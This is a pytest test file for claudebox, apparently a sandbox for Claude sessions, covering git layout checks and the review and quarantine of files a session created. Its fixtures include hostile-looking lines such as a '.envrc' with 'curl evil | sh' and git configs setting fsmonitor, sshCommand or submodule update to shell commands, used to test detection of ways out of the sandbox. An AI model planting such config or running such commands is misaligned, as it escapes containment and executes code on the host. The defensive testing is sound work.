"""git at the edge, with real git repositories in tmp_path: git_layout and its refusals,
probe_host, the judgement of git files a session created, the review (git's index:
test_index.py)."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

import claudebox as cb
from claudebox import Kind, Tier

GIT = shutil.which("git")
pytestmark = pytest.mark.git
ISOLATED = {"GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1"}


def git(*args, cwd, output=False):
    result = subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@t", *args],
        cwd=cwd,
        check=True,
        capture_output=True,
        text=True,
        env={**os.environ, **ISOLATED},
    )
    return result.stdout.strip() if output else None


def init(path: Path, *args: str) -> str:
    path.mkdir(parents=True, exist_ok=True)
    git("init", "-q", *args, cwd=path)
    git("commit", "-q", "--allow-empty", "-m", "x", cwd=path)
    return os.path.realpath(path)


def add_submodule(library: str, superproject: str) -> None:
    """`git submodule add LIBRARY lib`: an absorbed submodule (.git/modules/lib)."""
    git(
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "-q",
        "add",
        library,
        "lib",
        cwd=superproject,
    )


def layout(cwd) -> cb.GitLayout:
    cwd = os.path.realpath(cwd)
    probe, config = cb.git_probe(cwd, GIT)
    return cb.git_layout(cwd, GIT, probe, config.get("core.hookspath", ""))


def refusal(cwd) -> str:
    with pytest.raises(cb.ClaudeboxError) as info:
        layout(cwd)
    assert info.value.exit_code == 2
    return str(info.value)


@pytest.fixture
def repo(tmp_path):
    top = tmp_path / "main"
    (top / "sub" / "deeper").mkdir(parents=True)
    return init(top)


# --- git_layout -----------------------------------------------------------------------------


def test_plain_repo_from_subdirectory_and_top(repo):
    expected = cb.GitLayout(repo, repo, f"{repo}/.git", False, "", GIT)
    assert layout(os.path.join(repo, "sub", "deeper")) == expected
    assert layout(repo) == expected


def test_core_hooks_path_is_resolved_against_the_work_tree(repo):
    git("config", "core.hooksPath", ".husky", cwd=repo)
    assert layout(os.path.join(repo, "sub")).hooks_path == f"{repo}/.husky"


def test_linked_worktree_outside_repo(repo, tmp_path):
    worktree = tmp_path / "elsewhere" / "wt"
    git("worktree", "add", "-q", "-b", "feature", str(worktree), cwd=repo)
    real = os.path.realpath(worktree)
    (worktree / "pkg").mkdir()
    expected = cb.GitLayout(real, repo, f"{repo}/.git", True, "", GIT)
    assert layout(real) == expected
    assert layout(os.path.join(real, "pkg")) == expected


def test_absorbed_submodule(tmp_path):
    library = init(tmp_path / "library")
    superproject = init(tmp_path / "super")
    add_submodule(library, superproject)
    assert layout(f"{superproject}/lib") == cb.GitLayout(
        f"{superproject}/lib",
        f"{superproject}/lib",
        f"{superproject}/.git/modules/lib",
        True,
        "",
        GIT,
    )


def test_outside_git_and_without_git(tmp_path, repo):
    plain = os.path.realpath(tmp_path / "plain")
    os.mkdir(plain)
    assert layout(plain) == cb.GitLayout(plain, plain, "", False)
    assert cb.git_layout(repo, None, None) == cb.GitLayout(repo, repo, "", False)


def test_symlinked_cwd_resolves(repo, tmp_path):
    link = tmp_path / "link"
    link.symlink_to(repo)
    assert layout(link).top == repo


def test_a_planted_core_worktree_pointing_elsewhere_is_refused(tmp_path):
    other = init(tmp_path / "other")
    planted = tmp_path / "project"
    (planted / "sub").mkdir(parents=True)
    git("init", "-q", cwd=planted)
    git("config", "core.worktree", other, cwd=planted)
    cwd = os.path.realpath(planted / "sub")
    assert refusal(cwd) == (
        f"git says the work tree of {cwd} is {other} (a core.worktree setting or a .git file "
        f"in {os.path.realpath(planted)}/.git); claudebox binds only the current directory or "
        "one of its ancestors read-write; remove that setting, or run claudebox from the work "
        "tree"
    )


def test_a_git_file_pointing_at_another_repository_is_refused(tmp_path):
    other = init(tmp_path / "other")
    project = tmp_path / "project"
    project.mkdir()
    (project / ".git").write_text(f"gitdir: {other}/.git\n")
    top = os.path.realpath(project)
    assert refusal(project) == (
        f"{top}/.git points git at {other}/.git, which is neither a linked worktree "
        "(git worktree add) nor a submodule of an enclosing repository pointing back at "
        f"{top}; claudebox will not give the sandbox write access to it; run claudebox where "
        "the repository's .git directory is, or fix the .git file"
    )


def test_a_worktree_admin_directory_not_pointing_back_is_refused(repo, tmp_path):
    worktree = tmp_path / "wt"
    git("worktree", "add", "-q", "-b", "feature", str(worktree), cwd=repo)
    impostor = tmp_path / "impostor"
    impostor.mkdir()
    (impostor / ".git").write_text(f"gitdir: {repo}/.git/worktrees/wt\n")
    assert refusal(impostor).startswith(f"{os.path.realpath(impostor)}/.git points git at")


def test_a_commondir_in_a_main_repository_is_refused(repo, tmp_path):
    other = init(tmp_path / "other")
    Path(repo, ".git", "commondir").write_text(f"{other}/.git\n")
    assert refusal(repo) == (
        f"{repo}/.git/commondir points git at {other}/.git: not a normal repository "
        "(a session may have planted it); remove that file"
    )


def test_a_git_symlink_is_refused(tmp_path):
    other = init(tmp_path / "other")
    project = tmp_path / "project"
    project.mkdir()
    (project / ".git").symlink_to(f"{other}/.git")
    assert refusal(project) == (
        f"{os.path.realpath(project)}/.git is a symlink: git's own directory or a gitdir "
        "pointer belongs there; replace or remove it"
    )


def nested_repo(tmp_path) -> tuple[str, str]:
    """An enclosing directory (not a repository, another project's .env in it) and a
    repository in it, the project claudebox first binds."""
    enclosing = tmp_path / "src"
    (enclosing / "other").mkdir(parents=True)
    (enclosing / "other" / ".env").write_text("TOKEN=secret\n")
    project = init(enclosing / "lib")
    assert layout(project).top == project  # control: the project alone
    return os.path.realpath(enclosing), project


def test_a_planted_core_worktree_naming_an_enclosing_directory_is_refused(tmp_path):
    """lib/.git/config's core.worktree = ../..: git's work tree is src, which has no .git of
    its own (binding it would give the sandbox src/other/.env)."""
    enclosing, project = nested_repo(tmp_path)
    git("config", "core.worktree", "../..", cwd=project)
    (Path(project) / "sub").mkdir()
    config = f"{project}/.git/config"
    for cwd in (project, f"{project}/sub"):
        assert refusal(cwd) == (
            f"git says the work tree of {cwd} is {enclosing}, which has no .git of its "
            f"own: core.worktree in {config} points there (a session may have planted it); "
            f"claudebox binds a work tree only with its own .git; run git config --file {config} "
            f"--unset core.worktree, or run claudebox from {enclosing}"
        )


def test_a_planted_core_worktree_in_config_worktree_is_refused(tmp_path):
    """repositoryformatversion 1 with extensions.worktreeConfig: config.worktree sets it."""
    enclosing, project = nested_repo(tmp_path)
    git("config", "core.repositoryformatversion", "1", cwd=project)
    git("config", "extensions.worktreeConfig", "true", cwd=project)
    Path(project, ".git", "config.worktree").write_text("[core]\n\tworktree = ../..\n")
    assert refusal(project).startswith(
        f"git says the work tree of {project} is {enclosing}, which has no .git of its own: "
        f"core.worktree in {project}/.git/config.worktree points there"
    )


def test_a_planted_core_worktree_behind_a_git_symlink_is_refused(tmp_path):
    """lib/.git -> gd, a git directory whose core.worktree names src: git stops at the
    symlink (it is git's own), and src has no .git."""
    enclosing, project = nested_repo(tmp_path)
    os.rename(f"{project}/.git", f"{project}/gd")
    os.symlink("gd", f"{project}/.git")
    git("config", "core.worktree", "../..", cwd=project)
    assert refusal(project).startswith(
        f"git says the work tree of {project} is {enclosing}, which has no .git of its own: "
        f"core.worktree in {project}/gd/config points there"
    )


def test_a_nested_git_directory_naming_an_enclosing_repository_is_refused(tmp_path):
    """src is a repository too; lib's git directory shares its objects (commondir) and names
    src as its work tree (config.worktree, honoured since src's config has worktreeConfig):
    src's own .git is not git's directory."""
    enclosing = init(tmp_path / "src")
    git("config", "core.repositoryformatversion", "1", cwd=enclosing)
    git("config", "extensions.worktreeConfig", "true", cwd=enclosing)
    planted = Path(enclosing, "lib", ".git")
    planted.mkdir(parents=True)
    (planted / "HEAD").write_text("ref: refs/heads/main\n")
    (planted / "commondir").write_text("../../.git\n")
    (planted / "config.worktree").write_text("[core]\n\tworktree = ../..\n")
    project = f"{enclosing}/lib"
    assert refusal(project) == (
        f"git says the work tree of {project} is {enclosing}, whose .git is not git's "
        f"directory {project}/.git: core.worktree in {project}/.git/config.worktree points "
        "there (a session may have planted it); claudebox binds a work tree only with its own "
        f".git; run git config --file {project}/.git/config.worktree --unset core.worktree, or "
        f"run claudebox from {enclosing}"
    )


def test_a_work_tree_from_the_environment_without_its_own_git_is_refused(tmp_path, monkeypatch):
    enclosing, project = nested_repo(tmp_path)
    monkeypatch.setenv("GIT_DIR", f"{project}/.git")
    monkeypatch.setenv("GIT_WORK_TREE", enclosing)
    assert refusal(project) == (
        f"git says the work tree of {project} is {enclosing}, which has no .git of its own "
        "(GIT_DIR or GIT_WORK_TREE in the environment, or core.worktree in a file "
        f"{project}/.git/config includes); claudebox binds a work tree only with its own .git; "
        f"unset that, or run claudebox from {enclosing}"
    )


def test_a_git_file_whose_directory_shares_another_repositorys_is_refused(tmp_path):
    """lib/.git names lib/gd, inside the project, whose commondir is another repository's git
    directory: that one would be bound read-write beside the project."""
    other = init(tmp_path / "other")
    project = Path(tmp_path / "project")
    (project / "gd").mkdir(parents=True)
    (project / ".git").write_text("gitdir: gd\n")
    (project / "gd" / "HEAD").write_text("ref: refs/heads/main\n")
    (project / "gd" / "commondir").write_text(f"{other}/.git\n")
    top = os.path.realpath(project)
    assert refusal(project) == (
        f"{top}/gd/commondir points git at {other}/.git, outside {top}: not a normal repository "
        "(a session may have planted it); remove that file"
    )


def test_a_broken_git_that_git_passes_over_is_refused(tmp_path):
    """A project's own repository inside an enclosing one: with its .git broken (no HEAD),
    git would answer with the enclosing work tree."""
    enclosing = init(tmp_path / "src")
    project = init(tmp_path / "src" / "lib")
    (Path(project) / "sub").mkdir()
    assert layout(f"{project}/sub").top == project  # control
    Path(project, ".git", "HEAD").unlink()
    assert refusal(f"{project}/sub") == (
        f"git says the work tree of {project}/sub is {enclosing}, past {project}/.git, which git "
        "does not take for a repository (a session may have broken it); claudebox binds no work "
        f"tree above a .git; repair or remove {project}/.git, or run claudebox from {enclosing}"
    )


def test_a_linked_worktree_inside_the_repository(repo):
    git("worktree", "add", "-q", "-b", "feature", "sub/wt", cwd=repo)
    (Path(repo) / "sub" / "wt" / "pkg").mkdir()
    worktree = f"{repo}/sub/wt"
    expected = cb.GitLayout(worktree, repo, f"{repo}/.git", True, "", GIT)  # not its own
    assert layout(worktree) == expected
    assert layout(f"{worktree}/pkg") == expected


def test_a_submodule_with_its_own_git_directory(tmp_path):
    """Not absorbed (git submodule add of a repository already there): its .git directory."""
    superproject = init(tmp_path / "super")
    library = init(tmp_path / "super" / "lib")
    (Path(library) / "src").mkdir()
    git("submodule", "-q", "add", "./lib", "lib", cwd=superproject)
    expected = cb.GitLayout(library, library, f"{library}/.git", False, "", GIT)
    assert layout(library) == expected
    assert layout(f"{library}/src") == expected


@pytest.mark.parametrize("worktree", ["..", "ABSOLUTE"])
def test_a_core_worktree_naming_the_repositorys_own_top(repo, worktree):
    git("config", "core.worktree", repo if worktree == "ABSOLUTE" else worktree, cwd=repo)
    expected = cb.GitLayout(repo, repo, f"{repo}/.git", False, "", GIT)
    assert layout(os.path.join(repo, "sub", "deeper")) == expected


# --- protected_walks and probe_host ---------------------------------------------------------


def probe(cwd, home: Path, tier=Tier.FULL) -> cb.HostFacts:
    env = {"HOME": str(home), "PATH": os.path.dirname(GIT or "/usr/bin/git"), **ISOLATED}
    return cb.probe_host(env, tier, cwd=str(cwd))


def test_probe_host_linked_worktree(repo, tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    worktree = tmp_path / "wt"
    git("worktree", "add", "-q", "-b", "feature", str(worktree), cwd=repo)
    (worktree / ".envrc").write_text("")
    host = probe(worktree, home)
    wt = os.path.realpath(worktree)
    assert host.git == cb.GitLayout(wt, repo, f"{repo}/.git", True, "", GIT)
    assert host.cwd == wt
    present = sorted(w.path for w in host.protected if w.steps[-1].path == w.path)
    present = [p for p in present if cb.inspect(p).kind is not Kind.MISSING]
    assert present == [
        f"{repo}/.git/config",
        f"{repo}/.git/hooks",
        f"{repo}/.git/worktrees/wt/commondir",
        f"{repo}/.git/worktrees/wt/gitdir",
        f"{wt}/.envrc",
        f"{wt}/.git",
    ]
    assert host.claude_home == cb.ClaudeHome(f"{os.path.realpath(home)}/.claude", (), {})
    assert host.state_dir == os.path.join(os.path.realpath(home), ".claudebox")
    assert (host.routing, host.tun_error) == (cb.HostRouting(), None)  # full reads no routing


def test_probe_host_reads_claude_home(repo, tmp_path):
    home = tmp_path / "home"
    store_dir = tmp_path / "store"
    (store_dir / "agents").mkdir(parents=True)
    (home / ".claude" / "projects").mkdir(parents=True)
    (home / ".claude" / "settings.json").write_text('{"model": "opus"}')
    (home / ".claude" / "stats.json").write_text("{}")
    (home / ".claude" / "CLAUDE.md").symlink_to("/nonexistent/store/x-claude.md")
    (home / ".claude" / "agents").symlink_to(store_dir / "agents")
    (home / ".claude.json").write_text('{"theme": "light", "mcpServers": {}}')
    host = probe(os.path.join(repo, "sub"), home)
    claude = f"{os.path.realpath(home)}/.claude"
    assert host.git == cb.GitLayout(repo, repo, f"{repo}/.git", False, "", GIT)
    assert host.cwd == os.path.join(repo, "sub")
    agents = os.path.realpath(store_dir / "agents")
    assert host.claude_home == cb.ClaudeHome(
        claude,
        (  # the project's own (projects) is not the host's to show
            cb.Entry(f"{claude}/CLAUDE.md", Kind.LINK, "/nonexistent/store/x-claude.md"),
            cb.Entry(f"{claude}/agents", Kind.LINK, str(store_dir / "agents"), agents, Kind.DIR),
            cb.Entry(f"{claude}/settings.json", Kind.FILE),  # layered: named, read as the others
            cb.Entry(f"{claude}/stats.json", Kind.FILE),
        ),
        {"theme": "light", "mcpServers": {}},
    )
    # and its values are the host's layer of the project's own
    assert host.layers == cb.Layers({"model": "opus"}, None, None, None)
    assert host.openssl == shutil.which("openssl", path=os.path.dirname(GIT))


def test_probe_host_submodule_hooks_and_config_read_only(tmp_path):
    """The host's git runs a submodule's hooks from .git/modules/<name>/hooks (threat model:
    nothing the host later executes may be writable from inside)."""
    home = tmp_path / "home"
    home.mkdir()
    library = init(tmp_path / "library")
    superproject = init(tmp_path / "super")
    add_submodule(library, superproject)
    plan = cb.build_plan(probe(superproject, home), cb.Options(tier=Tier.FULL))
    modules = f"{superproject}/.git/modules/lib"
    read_only = {pin.path for pin in plan.stage.pins if pin.read_only}
    assert {f"{modules}/hooks", f"{modules}/config", f"{superproject}/.gitmodules"} <= read_only
    assert f"{superproject}/lib/.git" in read_only  # the gitdir pointer of the checkout


def test_a_submodule_with_its_own_git_directory_is_protected(tmp_path):
    """A gitlink whose checkout holds a .git directory (not absorbed): found through the index."""
    home = tmp_path / "home"
    home.mkdir()
    superproject = init(tmp_path / "super")
    nested = init(tmp_path / "super" / "vendor" / "dep")
    sha = git("rev-parse", "HEAD", cwd=nested, output=True)
    git("update-index", "--add", "--cacheinfo", f"160000,{sha},vendor/dep", cwd=superproject)
    Path(superproject, ".gitmodules").write_text('[submodule "dep"]\n\tpath = vendor/dep\n')
    plan = cb.build_plan(probe(superproject, home), cb.Options(tier=Tier.FULL))
    pins = {pin.path: pin for pin in plan.stage.pins}
    assert pins[f"{nested}/.git/hooks"].read_only
    assert pins[f"{nested}/.git/config"].read_only
    assert f"{nested}/.git/config.worktree" in plan.watched  # (worktreeConfig off)
    assert pins[f"{nested}/.git"] == cb.Pin(f"{nested}/.git", Kind.DIR, False, reason="pinned")


@pytest.mark.parametrize("secret", [".ssh", ".claude"])
def test_secret_path_behind_symlink_refused(tmp_path, secret):
    """~/.ssh -> /persist/ssh (impermanence) or ~/.claude -> ~/dotfiles/claude: a project
    holding the link's target holds the secret itself and must be refused."""
    home = tmp_path / "home"
    home.mkdir()
    dotfiles = tmp_path / "dotfiles"
    (dotfiles / "target").mkdir(parents=True)
    (dotfiles / "target" / "id_ed25519").write_text("canary")
    (home / secret).symlink_to(dotfiles / "target")
    env = {"HOME": str(home), "PATH": str(tmp_path / "nobin")}
    host = cb.probe_host(env, Tier.FULL, cwd=str(dotfiles))
    with pytest.raises(cb.ClaudeboxError) as info:
        cb.build_plan(host, cb.Options(tier=Tier.FULL))
    assert info.value.exit_code == 2
    real = os.path.realpath(dotfiles)
    assert str(info.value).startswith(f"the project directory {real} would expose {real}/target; ")


# --- what a session created: git_config_inert, judge_created, review_session ----------------

GIT_INIT_CONFIG = (
    "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n"
    "\tlogallrefupdates = true\n"
)


def config_file(tmp_path: Path, text: str) -> str:
    path = tmp_path / "config"
    path.write_text(text)
    return str(path)


def test_what_git_init_and_git_clone_write_is_inert(tmp_path):
    assert cb.git_config_inert(GIT, config_file(tmp_path, GIT_INIT_CONFIG), "/r/.git", "/r") == (
        True,
        "",
    )
    fresh = init(tmp_path / "fresh")
    assert cb.git_config_inert(GIT, f"{fresh}/.git/config", f"{fresh}/.git", fresh) == (True, "")
    clone = tmp_path / "clone"
    git("clone", "-q", fresh, str(clone), cwd=tmp_path)
    real = os.path.realpath(clone)
    assert cb.git_config_inert(GIT, f"{real}/.git/config", f"{real}/.git", real) == (True, "")


def test_a_submodule_config_is_inert(tmp_path):
    library = init(tmp_path / "library")
    superproject = init(tmp_path / "super")
    add_submodule(library, superproject)
    modules = f"{superproject}/.git/modules/lib"
    assert "worktree = ../../../lib" in Path(modules, "config").read_text()
    assert cb.git_config_inert(GIT, f"{modules}/config", modules, superproject) == (True, "")
    assert cb.git_config_inert(GIT, f"{superproject}/.git/config", "", superproject) == (True, "")


@pytest.mark.parametrize(
    ("text", "why"),
    [
        (GIT_INIT_CONFIG + "\tfsmonitor = touch /tmp/pwned\n", "core.fsmonitor"),
        (GIT_INIT_CONFIG + "\thooksPath = /tmp/hooks\n", "core.hookspath"),
        (GIT_INIT_CONFIG + "\tsshCommand = sh -c x\n", "core.sshcommand"),
        ("[include]\n\tpath = /tmp/more\n", "include.path"),
        ('[submodule "x"]\n\tupdate = !sh -c x\n', "submodule.x.update = !sh -c x"),
        ('[remote "origin"]\n\tuploadpack = sh -c x\n', "remote.origin.uploadpack"),
        (GIT_INIT_CONFIG + "\tworktree = /elsewhere\n", "core.worktree = /elsewhere"),
        (GIT_INIT_CONFIG + "\tworktree = ../../outside\n", "core.worktree = ../../outside"),
        ("[[[ not a config", "not a git config git can read"),
    ],
)
def test_configuration_the_host_would_obey_is_not_inert(tmp_path, text, why):
    top = tmp_path / "project"
    assert cb.git_config_inert(GIT, config_file(tmp_path, text), f"{top}/.git", str(top)) == (
        False,
        why,
    )


def test_safe_submodule_updates_and_dotted_branch_names_are_inert(tmp_path):
    text = (
        '[submodule "x"]\n\tupdate = rebase\n\tpath = x\n\turl = ../x\n'
        '[branch "feature.one"]\n\tremote = origin\n\tmerge = refs/heads/feature.one\n'
    )
    assert cb.git_config_inert(GIT, config_file(tmp_path, text), "/r/.git", "/r") == (True, "")


@pytest.fixture
def session_repo(tmp_path):
    top = init(tmp_path / "project")
    return top, cb.GitLayout(top, top, f"{top}/.git", False, "", GIT)


def test_judge_created(session_repo, tmp_path):
    top, layout_ = session_repo
    other = init(tmp_path / "other")
    files = {
        f"{top}/.envrc": "use flake\n",
        f"{top}/.git/config.worktree": "[core]\n\tfsmonitor = x\n",
        f"{top}/sub/.git": f"gitdir: {other}/.git\n",
        f"{top}/lib/.git": f"gitdir: {top}/.git/modules/lib\n",
        f"{top}/.git/worktrees/wt/commondir": "../..\n",
        f"{top}/.git/worktrees/evil/commondir": f"{other}/.git\n",
        f"{top}/.git/worktrees/wt/gitdir": "/somewhere/.git\n",
        f"{top}/.git/modules/lib/config": GIT_INIT_CONFIG,
    }
    for path, text in files.items():
        os.makedirs(os.path.dirname(path), exist_ok=True)
        Path(path).write_text(text)
    hooks = Path(top, ".git", "modules", "lib", "hooks")
    hooks.mkdir()
    (hooks / "pre-commit.sample").write_text("")
    samples_only = Path(top, ".git", "modules", "lib2", "hooks")
    samples_only.mkdir(parents=True)
    (samples_only / "update.sample").write_text("")
    (hooks / "post-checkout").write_text("")
    Path(top, ".gitmodules").symlink_to("/tmp/x")
    nested = init(Path(top, "nested"))
    assert {path: cb.judge_created(path, layout_) for path in [*files, str(hooks)]} == {
        f"{top}/.envrc": "",
        f"{top}/.git/config.worktree": "git configuration the host's git would obey "
        "(core.fsmonitor)",
        f"{top}/sub/.git": f"a .git file sending git to {other}/.git",
        f"{top}/lib/.git": None,
        f"{top}/.git/worktrees/wt/commondir": None,
        f"{top}/.git/worktrees/evil/commondir": f"a commondir sending git to {other}/.git",
        f"{top}/.git/worktrees/wt/gitdir": None,
        f"{top}/.git/modules/lib/config": None,
        str(hooks): "git hooks (post-checkout)",
    }
    assert cb.judge_created(str(samples_only), layout_) is None
    assert cb.judge_created(f"{top}/.gitmodules", layout_) == "a symlink to /tmp/x"
    assert cb.judge_created(f"{nested}/.git", layout_) == ""  # a new repository: reported
    outside_git = cb.GitLayout(nested, nested, "", False)
    assert cb.judge_created(f"{nested}/.git", outside_git) == ""  # a new repository: reported


def test_review_session_reports_and_moves_aside(tmp_path):
    home = tmp_path / "home"
    (home / ".claude").mkdir(parents=True)
    top = init(tmp_path / "project")
    host = probe(top, home)
    before = cb.take_snapshot(host)
    assert before._fields == ("present", "taken", "configs")  # ~/.claude is not its concern
    # the session (inside, read-only paths pinned) could create these:
    Path(top, ".envrc").write_text("curl evil | sh\n")
    Path(top, ".git", "config.worktree").write_text("[core]\n\tfsmonitor = touch /tmp/x\n")
    Path(top, ".claude").mkdir()
    Path(top, ".claude", "settings.json").write_text("{}")
    findings = cb.review_session(host, before)
    assert findings == [
        cb.Finding(
            f"{top}/.envrc",
            f"created {top}/.envrc: git, direnv, an editor or claude outside the sandbox may run "
            "what it says; review it",
        ),
        cb.Finding(
            f"{top}/.claude/settings.json",
            f"created {top}/.claude/settings.json: git, direnv, an editor or claude outside the "
            "sandbox may run what it says; review it",
        ),
        cb.Finding(
            f"{top}/.git/config.worktree",
            f"created {top}/.git/config.worktree: git configuration the host's git would obey "
            "(core.fsmonitor)",
            f"{top}/.git/config.worktree.claudebox-quarantined",
        ),
    ]
    assert not os.path.lexists(f"{top}/.git/config.worktree")
    assert Path(top, ".envrc").exists()  # reported, left in place
    assert cb.render_findings(findings).splitlines()[2] == (
        f"claudebox: warning: the session created {top}/.git/config.worktree: git configuration "
        "the host's git would obey (core.fsmonitor); moved it to "
        f"{top}/.git/config.worktree.claudebox-quarantined (move it back only if you trust it)"
    )


def test_quarantine_never_overwrites(tmp_path):
    for number in range(3):
        (tmp_path / "hooks").write_text(str(number))
        cb.quarantine(str(tmp_path / "hooks"))
    assert sorted(os.listdir(tmp_path)) == [
        "hooks.claudebox-quarantined",
        "hooks.claudebox-quarantined-2",
        "hooks.claudebox-quarantined-3",
    ]


def test_quarantine_takes_a_random_name_past_the_numbered_ones(tmp_path, monkeypatch):
    """A session that made every numbered name beforehand costs a bounded number of looks."""
    (tmp_path / "hooks.claudebox-quarantined").write_text("")
    for number in range(2, 10_000):
        (tmp_path / f"hooks.claudebox-quarantined-{number}").write_text("")
    (tmp_path / "hooks").write_text("plant")
    looks = []
    lexists = os.path.lexists
    monkeypatch.setattr(cb.os.path, "lexists", lambda path: looks.append(path) or lexists(path))
    moved = cb.quarantine(str(tmp_path / "hooks"))
    assert len(looks) == cb.QUARANTINE_NUMBERED + 1
    assert re.fullmatch(r"hooks\.claudebox-quarantined-[0-9a-f]{16}", os.path.basename(moved))
    assert Path(moved).read_text() == "plant"


def unchanged_review(top, home: Path) -> list[cb.Finding]:
    host = probe(top, home)
    return cb.review_session(host, cb.take_snapshot(host))


def test_a_session_that_changes_nothing_is_not_reported(tmp_path):
    home = tmp_path / "home"
    (home / ".claude").mkdir(parents=True)
    (home / ".claude" / "mystery").mkdir()
    repo = init(tmp_path / "main")
    Path(repo, ".git", "hooks", "pre-commit").write_text("#!/bin/sh\n")
    git("config", "user.email", "me@example.org", cwd=repo)
    worktree = tmp_path / "wt"
    git("worktree", "add", "-q", "-b", "feature", str(worktree), cwd=repo)
    library = init(tmp_path / "library")
    add_submodule(library, repo)
    for top in (repo, worktree, f"{repo}/lib", tmp_path / "library"):
        assert unchanged_review(top, home) == []
    assert os.path.isdir(f"{repo}/.git/hooks")


def test_an_embedded_repository_without_gitmodules_is_left_alone(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    top = init(tmp_path / "super")
    nested = init(tmp_path / "super" / "dep")
    Path(nested, ".git", "hooks", "pre-commit").write_text("#!/bin/sh\n")
    git("add", "dep", cwd=top)  # "adding embedded repository": a gitlink, no .gitmodules
    assert unchanged_review(top, home) == []


def test_a_repository_the_session_creates_is_reviewed_like_one_that_existed(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    top = tmp_path / "plain"
    top.mkdir()
    host = probe(top, home)
    assert host.git.git_dir == ""
    before = cb.take_snapshot(host)
    git("init", "-q", cwd=top)  # the session's own repository, with a hook and an fsmonitor
    Path(top, ".git", "hooks", "post-checkout").write_text("#!/bin/sh\n")
    git("config", "core.fsmonitor", "sh -c x", cwd=top)
    top = os.path.realpath(top)
    assert [(f.path, f.moved_to) for f in cb.review_session(host, before)] == [
        (f"{top}/.git", ""),
        (f"{top}/.git/config", f"{top}/.git/config.claudebox-quarantined"),
        (f"{top}/.git/hooks", f"{top}/.git/hooks.claudebox-quarantined"),
    ]
